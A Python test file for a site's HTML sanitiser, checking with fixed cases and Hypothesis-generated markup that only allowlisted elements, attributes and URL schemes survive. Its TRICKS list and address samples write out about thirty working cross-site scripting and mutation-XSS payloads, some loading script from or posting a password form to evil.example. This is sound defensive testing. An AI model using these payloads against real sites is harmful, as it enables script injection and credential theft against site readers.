"""The one sanitiser (plugins/content_model/sanitise.py): what reaches readers, and what writers are told.

Its output is read back with lexbor, a parser that follows the HTML standard
(as browsers do) and is not the sanitiser's own (html5ever), inside a page as
the theme puts it there. Hostile markup is both the known tricks below and
random trees of elements, attributes, comments and raw text (Hypothesis).
"""

from __future__ import annotations

import re
from collections import Counter

import pytest
from content_model.sanitise import (
    ATTRIBUTES,
    ELEMENTS,
    GLOBAL_ATTRIBUTES,
    IFRAME_ATTRIBUTES,
    MAX_FINDINGS,
    SCHEMES,
    Sanitiser,
    scheme_of,
)
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from tests.hostile import count_tried

PLAIN = Sanitiser()
WITH_VIDEOS = Sanitiser(("www.youtube-nocookie.com",))
PAGE = '<!DOCTYPE html><html><head><title>t</title></head><body><main><div class="prose">{}</div></main><p id="after">'

# Markup that a parser which is not the browser's reads as harmless, or that browsers turn into script,
# navigation or a request to another host. Each must be refused, and cleaned to nothing of the kind.
TRICKS = [
    '<!--><script src="https://evil.example/x.js"></script>-->',
    "<!--<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><![CDATA[</style><img src=x onerror=alert(1)>]]></svg>",
    '<iframe srcdoc="<script>alert(1)</script>" src="/blog/"></iframe>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
    '<svg><set attributeName="xlink:href" to="javascript:alert(1)"/></svg>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<body onload=alert(1)>",
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "<p data-pagefind-body>hidden post, found by search</p><script>alert(1)</script>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><img src=x onerror=alert(1)></template><script>alert(1)</script>",
    '<table><tr><td><a href="javascript:alert(1)">x</a></td></tr></table>',
    '<video src="https://evil.example/v.mp4" onloadstart="alert(1)"></video>',
    '<portal src="https://evil.example/"></portal>',
    '<img src=x onerror="alert(1)"//',
    '<p title="x" onmouseover=alert(1) >text</p>',
]


def page_tree(fragment: str) -> LexborHTMLParser:
    """`fragment` where the theme puts a post's text, parsed as a browser parses the page."""
    return LexborHTMLParser(PAGE.format(fragment))


def elements(tree: LexborHTMLParser, selector: str = ".prose"):
    """(tag, attributes) of every element inside the first match of `selector`, in document order."""
    box = tree.css_first(selector)
    return [
        (node.tag, node.attributes) for node in box.traverse() if node is not box and node.tag[0] not in "-_"
    ]


def fragment_elements(fragment: str):
    """(tag, attributes) of every element of `fragment` read on its own, as the sanitiser reads it."""
    root = LexborHTMLParser(fragment, is_fragment=True).root
    nodes = root.traverse() if root else []
    return [(node.tag, node.attributes) for node in nodes if node.is_element_node]


def assert_only_allowed(fragment: str, sanitiser: Sanitiser = PLAIN) -> None:
    """Every element, attribute and address in the cleaned `fragment` is on the allowlist."""
    tree = page_tree(fragment)
    assert tree.css_first("#after").parent.tag == "body", f"the text left its box: {fragment!r}"
    for tag, attributes in elements(tree):
        iframe = tag == "iframe" and sanitiser.iframe_hosts
        assert tag in ELEMENTS or iframe, (tag, fragment)
        allowed = GLOBAL_ATTRIBUTES | ATTRIBUTES.get(tag, set()) | (IFRAME_ATTRIBUTES if iframe else set())
        for name, value in attributes.items():
            assert name in allowed, (tag, name, fragment)
            if name in ("href", "src"):
                assert scheme_of(value or "") in SCHEMES | {""}, (tag, name, value, fragment)
            if iframe and name == "src":
                assert sanitiser.iframe_allowed(value), (value, fragment)


ACTIVE = {"script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "meta",
          "base", "link", "noscript", "template", "xmp", "video", "portal"}  # fmt: skip


def would_run_or_load(fragment: str) -> bool:
    """Whether a browser reading `fragment` builds an element or attribute that could run script, load
    something or send readers elsewhere (this test's own judgement, not the sanitiser's). The text is read
    on its own, as the sanitiser reads it: what reaches the page is the sanitiser's output."""
    for node in LexborHTMLParser(fragment).root.traverse():
        if node.tag in ACTIVE:
            return True
        for name, value in node.attributes.items():
            if name.lower().startswith("on") or scheme_of(value or "") not in SCHEMES | {""}:
                return True
    return False


@pytest.mark.parametrize("trick", TRICKS)
def test_each_known_trick_is_cleaned_away_and_refused_when_a_browser_would_run_it(trick):
    assert_only_allowed(PLAIN.clean(trick))
    assert_only_allowed(WITH_VIDEOS.clean(trick), WITH_VIDEOS)
    assert bool(PLAIN.findings(trick)) == would_run_or_load(trick)


def test_the_known_tricks_are_mostly_live_ones():
    """The list above tests the refusals: nearly all of it is markup a browser would run."""
    assert sum(map(would_run_or_load, TRICKS)) >= len(TRICKS) - 2


def test_what_a_writer_uses_is_kept_as_written():
    text = (
        '<h2 id="a-heading">A heading</h2>\n<p>Read <a href="/blog/a-post/" title="A post">this</a>, '
        '<a href="https://www.gov.uk/">GOV.UK</a>, <a href="mailto:team@example.org">email</a> or '
        '<a href="tel:+442071234567">call</a>.</p>\n<p><img src="{static}/images/chart.png" alt="A chart" '
        'width="600" height="400"> <a href="{filename}/blog/other.md">another post</a></p>\n'
        '<table>\n<thead>\n<tr>\n<th scope="col">Year</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>2026</td>\n'
        "</tr>\n</tbody>\n</table>\n<blockquote><p>A quote</p></blockquote>\n"
        '<pre><code class="language-python">x = 1 &lt; 2</code></pre>\n'
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>\n'
        "<details><summary>More</summary><p>Hidden until opened.</p></details>"
    )
    assert PLAIN.findings(text) == []
    assert PLAIN.clean(text) == text


def test_what_readers_never_see_goes_without_a_word():
    text = (
        '<!-- a note --><p style="color: red" data-pagefind-body>Words</p>'
        '<announcer>Kept text</announcer><a href="/x/" target="_blank">link</a>'
    )
    assert PLAIN.findings(text) == []
    assert PLAIN.clean(text) == '<p>Words</p>Kept text<a href="/x/">link</a>'


def test_iframes_only_from_allowed_hosts_over_https():
    allowed = '<iframe src="https://www.youtube-nocookie.com/embed/a" title="A video"></iframe>'
    assert WITH_VIDEOS.findings(allowed) == []
    assert WITH_VIDEOS.clean(allowed) == allowed
    for source in (
        "http://www.youtube-nocookie.com/embed/a",
        "https://evil.example/",
        "/blog/",
        "https://www.youtube-nocookie.com.evil.example/",
        "",
    ):
        iframe = f'<iframe src="{source}"></iframe>'
        [finding] = WITH_VIDEOS.findings(iframe)
        assert "IFRAME_HOSTS" in finding.message
        assert "src" not in WITH_VIDEOS.clean(iframe)
    [finding] = PLAIN.findings(allowed)
    assert "none" in finding.message and PLAIN.clean(allowed) == ""


def test_a_title_keeps_its_text_and_loses_any_element():
    assert (
        PLAIN.clean_text("Don&#8217;t &lt;script&gt; &amp; <b>bold</b>") == "Don’t &lt;script&gt; &amp; bold"
    )


def test_text_inside_an_element_the_sanitiser_would_drop_whole_is_reported():
    [finding] = PLAIN.findings("<p>Reply <text>STOP</text> to stop.</p>")
    assert finding.value == "<text>" and "would be lost" in finding.message
    assert PLAIN.findings("<p>Press <announcer>the button</announcer>.</p>") == []  # its text is kept


def test_thousands_of_findings_are_cut_to_a_readable_list():
    findings = PLAIN.findings("<p onclick=x>a</p>" * 5000)
    assert len(findings) == MAX_FINDINGS + 1
    assert "4,980 more" in findings[-1].message


# --- random markup ------------------------------------------------------------------------

TAGS = sorted(ELEMENTS) + [
    "script", "style", "iframe", "object", "embed", "svg", "math", "foreignObject", "animate", "set",
    "form", "input", "button", "select", "option", "textarea", "meta", "base", "link", "title", "noscript",
    "template", "xmp", "plaintext", "noembed", "noframes", "frameset", "body", "html", "head", "annotation-xml",
    "mglyph", "mtext", "desc", "image", "use", "font", "center", "marquee", "x-widget", "selectedcontent",
]  # fmt: skip
NAMES = sorted(GLOBAL_ATTRIBUTES | {name for names in ATTRIBUTES.values() for name in names}) + [
    "onclick", "onerror", "onload", "ONMOUSEOVER", "style", "data-pagefind-body", "srcdoc", "formaction",
    "action", "xlink:href", "values", "to", "attributename", "target", "is", "slot", "popover",
]  # fmt: skip
ADDRESSES = st.sampled_from(
    [
        "/blog/a/",
        "https://www.gov.uk/",
        "mailto:a@example.org",
        "javascript:alert(1)",
        "JaVa\tScRiPt:alert(1)",
        "&#106;avascript:x",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "ftp://host/",
        "#fn:1",
        "{static}/images/a.png",
        "https://www.youtube-nocookie.com/embed/a",
    ]
)
TEXT = st.text(alphabet="ab <>&\"'=/-!?[]`", max_size=12)  # what markup is made of


def attribute():
    value = st.one_of(ADDRESSES, TEXT)
    quoted = st.sampled_from(['{}="{}"', "{}='{}'", "{}={}"])
    return st.builds(lambda form, name, text: form.format(name, text), quoted, st.sampled_from(NAMES), value)


def markup() -> st.SearchStrategy[str]:
    leaf = st.one_of(
        TEXT,
        st.builds("<!--{}-->".format, TEXT),
        st.builds("<![CDATA[{}]]>".format, TEXT),
        st.sampled_from(["<!-->", "<!--", "-->", "</", "<", "]]>", "&lt;", "&#0;", "\x00", "<?a>", "<!x>"]),
    )

    def element(children):
        opening = st.builds(
            lambda tag, attributes, close: f"<{tag}{''.join(' ' + a for a in attributes)}{close}",
            st.sampled_from(TAGS),
            st.lists(attribute(), max_size=3),
            st.sampled_from([">", "/>", " >"]),
        )
        closing = st.one_of(st.just(""), st.builds("</{}>".format, st.sampled_from(TAGS)))
        return st.builds(
            lambda o, inner, c: o + "".join(inner) + c, opening, st.lists(children, max_size=3), closing
        )

    return st.recursive(leaf, element, max_leaves=12)


@settings(max_examples=600, deadline=None)
@given(text=st.lists(markup(), min_size=1, max_size=4).map("".join))
def test_any_markup_is_cleaned_to_the_allowlist_and_keeps_its_elements_when_read_again(text):
    count_tried("markup sanitised")
    for sanitiser in (PLAIN, WITH_VIDEOS):
        clean = sanitiser.clean(text)
        assert_only_allowed(clean, sanitiser)
        again = sanitiser.clean(clean)
        assert sorted(fragment_elements(again), key=repr) == sorted(fragment_elements(clean), key=repr), (
            "read again, the output loses or gains an element or attribute"
        )


@settings(max_examples=600, deadline=None)
@given(text=st.lists(markup(), min_size=1, max_size=4).map("".join))
def test_markup_with_nothing_to_report_loses_no_element_the_writer_wrote(text):
    if PLAIN.findings(text):
        return
    count_tried("markup with nothing to report")
    written = Counter(tag for tag, _ in fragment_elements(text) if tag in ELEMENTS)
    kept = Counter(tag for tag, _ in fragment_elements(PLAIN.clean(text)))
    assert not written - kept, "an element the writer wrote is gone"
    for tag, attributes in fragment_elements(PLAIN.clean(text)):
        for name in ("href", "src"):
            assert re.sub(r"\s", "", attributes.get(name) or "x"), (tag, attributes)
